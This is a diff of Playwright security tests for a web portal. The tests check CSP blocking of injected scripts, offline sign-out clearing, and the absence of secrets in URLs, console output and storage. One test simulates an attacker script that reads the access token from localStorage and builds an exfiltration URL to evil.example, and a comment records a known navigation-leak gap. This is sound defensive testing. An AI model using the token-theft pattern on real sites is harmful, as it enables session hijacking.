@@ -1,22 +1,22 @@
 import { paths } from '@portal/shared/routing';
-import { canary, strangersOf } from '../../fixtures/markup.ts';
+import { canary, watchForeignRequests } from '../../fixtures/markup.ts';
 import { expect, test } from '../../fixtures/test.ts';
 import { origin } from '../../harness/environment.ts';
 
 const lagoon = origin('lagoon');
 
-/** What the browser says when the policy stops something. */
+/** Console messages of the browser when the content security policy blocks something. */
 const REFUSALS =
   /csp:| csp$|Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates the following|ERR_BLOCKED_BY_CSP|blocked:csp|Failed to execute/;
 
-test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the token out', async ({
+test('T-02 T-03 an injected script neither runs further code nor sends the token out', async ({
   page,
   problems,
-  bringSession,
+  restoreSession,
 }) => {
   problems.expect(REFUSALS);
-  await bringSession('lagoon');
-  const strangers = strangersOf(page, lagoon);
+  await restoreSession('lagoon');
+  const foreignRequests = watchForeignRequests(page, lagoon);
   const reports: string[] = [];
   page.on('request', (request) => {
     if (request.url().endsWith('/telemetry/csp')) reports.push(request.postData() ?? '');
@@ -27,7 +27,7 @@ test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the 
   expect(token).not.toBe('');
 
   const results = await page.evaluate(async (line) => {
-    // What the debugger evaluates is exempt from the policy as long as it runs at a stretch.
+    // Code evaluated by the debugger is exempt from the policy until its first asynchronous step.
     await new Promise((resolve) => setTimeout(resolve));
     const stolen = localStorage.getItem('access_token') ?? '';
     const evil = `https://evil.example/?t=${stolen}`;
@@ -117,10 +117,10 @@ test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the 
   expect(results.thrown).toEqual(
     expect.arrayContaining(['innerHTML with a handler', 'eval', 'new Function', 'fetch']),
   );
-  expect(strangers).toEqual([]);
+  expect(foreignRequests).toEqual([]);
   expect(page.url()).toBe(lagoon + paths.language.path);
   await expect.poll(() => reports.length).toBeGreaterThan(0);
-  // What remains open, and is known: no policy stops a page from being left with the token in the address.
+  // Known gap: no policy blocks a navigation away with the token in the address.
   const left = page.waitForRequest(
     (request) => request.isNavigationRequest() && request.url().includes('evil.example'),
   );
@@ -129,7 +129,7 @@ test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the 
   expect((await left).url()).toContain('evil.example');
 });
 
-test('T-07 signing out without a connection leaves nothing on any tab, nor behind Back', async ({
+test('T-07 signing out offline clears every tab, and Back shows no data', async ({
   page,
   context,
   problems,
@@ -154,7 +154,7 @@ test('T-07 signing out without a connection leaves nothing on any tab, nor behin
   await expect(page).toHaveURL(mono + paths.login.path);
   await expect(other).toHaveURL(/\/login/);
 
-  // What the domain runs and how it looks, of which nothing is anybody's.
+  // The release and the theme of the domain, which contain no personal data.
   expect(await page.evaluate(() => Object.keys(localStorage))).toEqual(['portal.last-good']);
   for (let step = 0; step < 3; step += 1) {
     await page.goBack();
@@ -164,7 +164,7 @@ test('T-07 signing out without a connection leaves nothing on any tab, nor behin
   }
 });
 
-test('T-08 neither password, token nor address of a person stands in an address, a message or the storage', async ({
+test('T-08 no URL, console message or storage contains a password, a token or an email address', async ({
   page,
   problems,
 }) => {
@@ -193,7 +193,7 @@ test('T-08 neither password, token nor address of a person stands in an address,
     expect(found.filter((text) => text.includes(secret))).toEqual([]);
     expect(storage).not.toContain(secret);
   }
-  // Source maps are not among what is served.
+  // Source maps are not served.
   const script = await page.locator('script[src]').first().getAttribute('src');
   problems.expect(/status of 404/);
   const status = await page.evaluate(async (address) => (await fetch(address)).status, `${script ?? ''}.map`);
